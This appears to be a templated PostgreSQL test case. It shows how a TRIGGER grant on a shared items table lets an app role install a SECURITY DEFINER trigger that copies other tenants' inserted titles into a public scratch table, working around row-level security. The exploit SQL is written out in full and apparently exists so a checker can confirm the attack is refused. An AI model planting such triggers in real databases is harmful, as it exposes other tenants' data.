-- A trigger of the app role's own, on a table that others write as well.
-- object: public.items
-- base: uuid
-- refused: 42P01
--- setup
RESET ROLE;
CREATE ROLE {importer} LOGIN BYPASSRLS;
GRANT INSERT, SELECT ON items TO {importer};
SET ROLE {owner};
CREATE SCHEMA scratch;
GRANT USAGE, CREATE ON SCHEMA scratch TO {app};
--- leak
GRANT TRIGGER ON items TO {app};
--- exploit
CREATE TABLE scratch.seen (title text);
GRANT USAGE ON SCHEMA scratch TO PUBLIC;
GRANT INSERT ON scratch.seen TO PUBLIC;
CREATE FUNCTION scratch.spy() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER
    AS $$ BEGIN INSERT INTO scratch.seen VALUES (NEW.title); RETURN NEW; END $$;
CREATE TRIGGER spy BEFORE INSERT ON items FOR EACH ROW EXECUTE FUNCTION scratch.spy();
--- operator
RESET ROLE;
SET ROLE {importer};
INSERT INTO items (tenant_id, title) VALUES ('{B}', 'imported for b');
--- exploit
SELECT title FROM scratch.seen WHERE title = 'imported for b';
